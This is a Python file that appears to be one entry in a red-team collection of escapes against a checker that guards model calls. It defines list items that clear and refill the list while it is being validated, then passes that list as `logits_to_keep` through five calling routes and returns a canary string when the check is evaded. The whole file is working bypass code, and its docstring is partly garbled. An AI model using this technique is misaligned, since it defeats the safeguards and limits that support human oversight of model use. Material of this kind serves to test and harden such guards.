"""Class: memory. Source: own find. Escape: the same by a model, which is called by `map` and by a partial
function, and keeps the logits at the places in a list of the technique's own."""

from functools import partial

import torch


class Row:
    def __len__(self):
        return 2

    def __getitem__(self, i):
        if i > 1:
            raise IndexError
        if armed:
            rows.clear()
            kept.append([(3, 3)] * 500)
        return 0


class Last(Row):
    def __getitem__(self, i):
        if i > 1:
            raise IndexError
        armed.append(1)
        return 0


armed = []
kept = []
rows = []


def attack(model, tokenizer, address):
    ids = torch.tensor([[1, 2, 3]])
    ways = (
        lambda: model(ids, logits_to_keep=rows),
        lambda: partial(model, logits_to_keep=rows)(ids),
        lambda: partial(model.forward, ids)(logits_to_keep=rows),
        lambda: list(map(partial(model, logits_to_keep=rows), [ids])),
        lambda: model.generate(ids, max_new_tokens=1, logits_to_keep=rows),
    )
    for way in ways:
        for _ in range(5):
            armed.clear()
            rows[:] = [Row()] + [(0, 0)] * 499 + [Last()]
            try:
                way()
            except (TypeError, IndexError, ValueError, RuntimeError):
                pass
            if not rows:
                return "canary-" + "5d1f"
